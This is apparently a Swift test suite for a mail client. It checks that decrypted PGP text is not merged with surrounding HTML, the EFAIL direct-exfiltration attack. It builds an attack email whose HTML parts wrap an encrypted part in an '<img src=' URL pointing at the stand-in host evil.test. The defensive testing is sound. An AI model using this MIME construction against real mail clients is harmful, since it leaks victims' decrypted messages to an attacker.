import Foundation
import MailCrypto
import MailMessage
import TestSupport
import Testing

/// EFAIL (Poddebniak et al., USENIX Security 2018), direct exfiltration: an attacker
/// wraps a captured encrypted part between two HTML parts that open and close an image
/// URL, hoping the client joins them into one document and fetches the plaintext out.
@Suite struct EFAILTests {
    @Test func decryptedTextNeverJoinsTheHTMLAroundIt() throws {
        try PGPMIMETests.withHome { home, renderer in
            let secret = "quokka-launch-code"
            let (body, boundary) = try SignedMail.pgpEncrypted(SignedMail.textEntity(secret), to: "bob@example.test", signer: nil, in: home)
            var raw = SignedMail.crlf(SignedMail.header(from: "Mallory <mallory@evil.test>", subject: "Re", type: "multipart/mixed; boundary=\"x\"")
                + ["", "--x", "Content-Type: text/html", "", "<img src=\"http://evil.test/", "--x",
                   "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"\(boundary)\"", "", ""])
            raw += body + SignedMail.crlf(["--x", "Content-Type: text/html", "", "\">", "--x--", ""])
            for preferPlain in [true, false] {
                var reader = renderer
                reader.preferPlainText = preferPlain
                let rendered = reader.render(MessageParser.parse(raw))
                // Decrypted, shown between its borders, and in no link.
                let begin = try #require(rendered.bodyText.range(of: "▌ Begin encrypted part 3"))
                let end = try #require(rendered.bodyText.range(of: "▌ End of encrypted part 3"))
                let inside = try #require(rendered.bodyText.range(of: secret))
                #expect(begin.upperBound < inside.lowerBound && inside.upperBound < end.lowerBound)
                #expect(rendered.links.allSatisfy { !$0.contains(secret) }, "\(rendered.links)")
                #expect(!rendered.security.first!.coversWholeMessage)
            }
        }
    }
}
